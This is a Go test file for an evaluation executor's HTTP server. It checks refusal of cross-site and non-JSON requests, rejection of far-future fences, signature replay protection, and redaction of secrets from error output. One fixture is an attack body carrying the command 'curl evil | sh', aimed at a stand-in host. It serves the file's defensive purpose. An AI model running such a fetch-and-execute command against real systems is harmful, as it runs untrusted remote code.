package refexec

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/evalpool/evalpool/executor"
)

// serveT serves s with Serve on a loopback listener until the test ends,
// and returns its base URL.
func serveT(t *testing.T, s *Server) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.WithoutCancel(t.Context()))
	done := make(chan error, 1)
	go func() { done <- s.Serve(ctx, l) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("Serve: %v", err)
		}
	})
	return "http://" + l.Addr().String()
}

// A web page can POST to any address it names, text/plain without a
// preflight; the browser adds Origin (and Sec-Fetch-Site). An executor
// refuses such a request, and one that is not JSON, before anything else:
// the attacker's request, unsigned with fence 9000000000000000000, changes
// nothing, and the next eval runs.
func TestCrossSiteAndNonJSONRefused(t *testing.T) {
	t.Parallel()
	const attack = `{"eval_id":"pwn","fence":9000000000000000000,"spec":{"cmd":"curl evil | sh"}}`
	tests := []struct {
		name   string
		header map[string]string
		want   int
	}{
		{"text/plain from a page", map[string]string{"Content-Type": "text/plain", "Origin": "https://evil.example"}, http.StatusForbidden},
		{"text/plain without Origin", map[string]string{"Content-Type": "text/plain;charset=UTF-8"}, http.StatusUnsupportedMediaType},
		{"form", map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, http.StatusUnsupportedMediaType},
		{"no Content-Type", map[string]string{"Content-Type": ""}, http.StatusUnsupportedMediaType},
		{"JSON with Origin", map[string]string{"Origin": "https://evil.example"}, http.StatusForbidden},
		{"JSON, Origin null", map[string]string{"Origin": "null"}, http.StatusForbidden},
		{"JSON, cross-site fetch", map[string]string{"Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
		{"JSON, same-site fetch", map[string]string{"Sec-Fetch-Site": "same-site"}, http.StatusForbidden},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s, url := setup(t, Options{})
			code, body := post(t, url, executor.PathEvals, attack, tt.header)
			if code != tt.want || !strings.Contains(body, `"error"`) {
				t.Fatalf("attack: %d %s, want %d with a JSON error", code, body, tt.want)
			}
			if st := s.Stats(); st.MaxFence != 0 || st.Served != 0 || st.Forbidden != 1 {
				t.Fatalf("stats after the attack = %+v, want nothing but forbidden 1", st)
			}
			if _, err := (&executor.Client{}).Run(t.Context(), url, executor.Request{EvalID: "e", Fence: 5, Spec: []byte(`{}`), LeaseMs: 10_000}); err != nil {
				t.Fatalf("eval after the attack: %v", err)
			}
		})
	}
	t.Run("worker-like requests pass", func(t *testing.T) {
		t.Parallel()
		s, url := setup(t, Options{})
		for i, h := range []map[string]string{nil, {"Sec-Fetch-Site": "none"}, {"Sec-Fetch-Site": "same-origin"}, {"Content-Type": "application/json; charset=utf-8"}} {
			body := fmt.Sprintf(`{"eval_id":"e%d","fence":%d,"spec":{}}`, i, i+1)
			if code, answer := post(t, url, executor.PathEvals, body, h); code != http.StatusOK {
				t.Fatalf("%v: %d %s", h, code, answer)
			}
		}
		if st := s.Stats(); st.Passed != 4 || st.Forbidden != 0 {
			t.Fatalf("stats %+v", st)
		}
	})
}

// A fence further ahead of the executor's clock than any pool grants is
// refused (400) and not recorded: the next grant's fence passes. One just
// under the bound is recorded, and the 409 of the next lower fence says it
// (max_fence), so that the pool can raise its counter past it.
func TestFarFenceIsNotRecorded(t *testing.T) {
	t.Parallel()
	now := time.Now().UnixMilli()
	tests := []struct {
		name     string
		fence    int64
		want     int
		recorded bool
	}{
		{"the attacker's", 9000000000000000000, http.StatusBadRequest, false},
		{"max int64", 1<<63 - 1, http.StatusBadRequest, false},
		{"just over a day ahead", now + executor.MaxFenceAhead.Milliseconds() + time.Minute.Milliseconds(), http.StatusBadRequest, false},
		{"just under a day ahead", now + executor.MaxFenceAhead.Milliseconds() - time.Minute.Milliseconds(), http.StatusOK, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s, url := setup(t, Options{})
			body := fmt.Sprintf(`{"eval_id":"far","fence":%d,"spec":{}}`, tt.fence)
			if code, answer := post(t, url, executor.PathEvals, body, nil); code != tt.want {
				t.Fatalf("fence %d: %d %s, want %d", tt.fence, code, answer, tt.want)
			}
			_, err := (&executor.Client{}).Run(t.Context(), url, executor.Request{EvalID: "e", Fence: now, Spec: []byte(`{}`), LeaseMs: 10_000})
			if !tt.recorded {
				if err != nil || s.Stats().MaxFence != now || s.Stats().FarFences != 1 {
					t.Fatalf("a grant's fence after a refused far one: %v, stats %+v", err, s.Stats())
				}
				return
			}
			var refused *executor.RefusedError
			if !errors.As(err, &refused) || refused.Reason != executor.ReasonStaleFence || refused.MaxFence != tt.fence {
				t.Fatalf("a lower fence after a recorded one: %v (%+v), want stale_fence with max_fence %d", err, refused, tt.fence)
			}
		})
	}
}

// A signed request is the executor's it was signed for, for a few minutes:
// replayed to another executor with the same secret, or replayed later, it
// is refused (401) and changes nothing; sent where and when it was
// signed, it runs.
func TestSignedRequestReplays(t *testing.T) {
	t.Parallel()
	a := serveT(t, newServer(t, Options{Secret: testSecret}))
	bs := newServer(t, Options{Secret: testSecret})
	b := serveT(t, bs)
	named := newServer(t, Options{Secret: testSecret, Hosts: []string{"executor-1"}})
	n := serveT(t, named)
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(n, "http://"))
	body := `{"eval_id":"e","fence":7,"spec":{},"lease_ms":0}`
	signed := func(base string, at time.Time) map[string]string {
		host := strings.TrimPrefix(base, "http://")
		return map[string]string{executor.SignatureHeader: executor.SignV2(testSecret, http.MethodPost, host, executor.PathEvals, "", at.UnixMilli(), []byte(body))}
	}
	tests := []struct {
		name   string
		to     string
		header map[string]string
		want   int
	}{
		{"signed for a, replayed to b", b, signed(a, time.Now()), http.StatusUnauthorized},
		{"signed for b ten minutes ago", b, signed(b, time.Now().Add(-10*time.Minute)), http.StatusUnauthorized},
		{"signed for b ten minutes ahead", b, signed(b, time.Now().Add(10*time.Minute)), http.StatusUnauthorized},
		{"signed for b by another name", b, signed("http://evil.example:80", time.Now()), http.StatusUnauthorized},
		{"signed for b, lease_ms 0, now", b, signed(b, time.Now()), http.StatusOK},
		{"signed for b, lease_ms 0, replayed", b, signed(b, time.Now()), http.StatusConflict},
	}
	for _, tt := range tests { // in order: the last two share b's fence
		code, answer := post(t, tt.to, executor.PathEvals, body, tt.header)
		if code != tt.want {
			t.Fatalf("%s: %d %s, want %d", tt.name, code, answer, tt.want)
		}
	}
	if st := bs.Stats(); st.Unauthorized != 4 || st.Passed != 1 || st.Fenced != 1 {
		t.Fatalf("b's stats %+v", st)
	}
	// An executor reached by a name of its own (--allowed-hosts, a compose
	// service name) takes what is signed for that name on its port.
	host := "executor-1:" + port
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, n+executor.PathEvals, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Host = host
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set(executor.SignatureHeader, executor.SignV2(testSecret, http.MethodPost, host, executor.PathEvals, "", time.Now().UnixMilli(), []byte(body)))
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("signed for executor-1:%s: %s", port, resp.Status)
	}
	// The client signs for the URL it calls: it works unchanged.
	for _, url := range []string{a, b, strings.Replace(a, "127.0.0.1", "localhost", 1)} {
		if err := (&executor.Client{Secret: testSecret}).CheckSignature(t.Context(), url); err != nil {
			t.Fatalf("CheckSignature(%s): %v", url, err)
		}
	}
}

// A POST whose signature is missing or malformed is answered 401 at once,
// its body unread and its connection closed: a client trickling a body
// holds the connection for no longer than it takes to send the headers.
func TestUnauthorizedBodyIsNotRead(t *testing.T) {
	t.Parallel()
	s := newServer(t, Options{Secret: testSecret})
	url := serveT(t, s)
	for _, sig := range []string{"", "v2=junk", "v1=" + strings.Repeat("00", 32), executor.SignV2([]byte("not-the-key"), "POST", strings.TrimPrefix(url, "http://"), executor.PathEvals, "", time.Now().UnixMilli(), nil)} {
		c, err := net.Dial("tcp", strings.TrimPrefix(url, "http://"))
		if err != nil {
			t.Fatal(err)
		}
		header := "POST " + executor.PathEvals + " HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n"
		if sig != "" {
			header += executor.SignatureHeader + ": " + sig + "\r\n"
		}
		if _, err := fmt.Fprint(c, header+"\r\n{"); err != nil {
			t.Fatal(err)
		}
		start := time.Now()
		_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatalf("signature %q: no answer: %v", sig, err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized || !resp.Close || time.Since(start) > 2*time.Second {
			t.Fatalf("signature %q: %s after %s, close %v; want 401 at once, the connection closed", sig, resp.Status, time.Since(start), resp.Close)
		}
		c.Close()
	}
	if st := s.Stats(); st.Unauthorized != 4 || st.MaxFence != 0 {
		t.Fatalf("stats %+v", st)
	}
}

// A failed --exec command's answer says how it ended and the end of its
// stderr, never the command line, which may carry a key: a result errored
// when the command failed, an error (500) when it could not be run.
func TestExecFailureHidesTheCommand(t *testing.T) {
	t.Parallel()
	const key = "sk-live-0123456789abcdef"
	noisy := strings.Repeat("progress line\n", 200)
	tests := []struct {
		name    string
		exec    string
		errored bool
		want    []string
	}{
		{"exit 3", "GRADER_API_KEY=" + key + " sh -c 'printf \"" + strings.ReplaceAll(noisy, "\n", "\\n") + "grader: quota exceeded\\n\" >&2; exit 3' --token=" + key, true, []string{"exit status 3", "grader: quota exceeded"}},
		{"killed", "GRADER_API_KEY=" + key + " sh -c 'kill -9 $$'", true, []string{"exit status 137"}},
		{"not found", "GRADER_API_KEY=" + key + " /nonexistent/grader --key " + key, false, []string{"exit status 127", "not found"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			_, url := setup(t, Options{Exec: tt.exec})
			res, err := (&executor.Client{}).Run(t.Context(), url, executor.Request{EvalID: "e", Fence: 1, Spec: []byte(`{}`), LeaseMs: 10_000})
			var msg string
			switch {
			case tt.errored && (err != nil || res.Status != executor.StatusErrored):
				t.Fatalf("Run = %+v, %v; want a result errored", res, err)
			case tt.errored:
				b, _ := json.Marshal(res)
				msg = string(b)
				if len(res.Stderr) > DefaultTail {
					t.Fatalf("stderr of %d bytes: want its tail, at most %d", len(res.Stderr), DefaultTail)
				}
			case err == nil:
				t.Fatalf("Run = %+v; want an error: the executor could not run the command", res)
			default:
				msg = err.Error()
				if len(msg) > 400 {
					t.Fatalf("error of %d bytes: want the stderr's tail, bounded", len(msg))
				}
			}
			if strings.Contains(msg, key) || strings.Contains(msg, "GRADER_API_KEY") {
				t.Fatalf("the answer quotes the command: %s", msg)
			}
			for _, w := range tt.want {
				if !strings.Contains(msg, w) {
					t.Fatalf("answer %q: want it to say %q", msg, w)
				}
			}
		})
	}
}

func newServer(t *testing.T, opts Options) *Server {
	t.Helper()
	s, err := New(opts)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// Options.Hosts are validated.
func TestHostsValidate(t *testing.T) {
	t.Parallel()
	for _, h := range []string{"", "a b", "http://x", "x:0", "x:99999", ":80", "u@x"} {
		if _, err := New(Options{Hosts: []string{h}}); err == nil {
			t.Errorf("host %q accepted", h)
		}
	}
	for _, h := range []string{"executor-1", "executor-1:9001", "10.0.0.5", "[::1]:9001", "::1"} {
		if _, err := New(Options{Hosts: []string{h}}); err != nil {
			t.Errorf("host %q: %v", h, err)
		}
	}
}
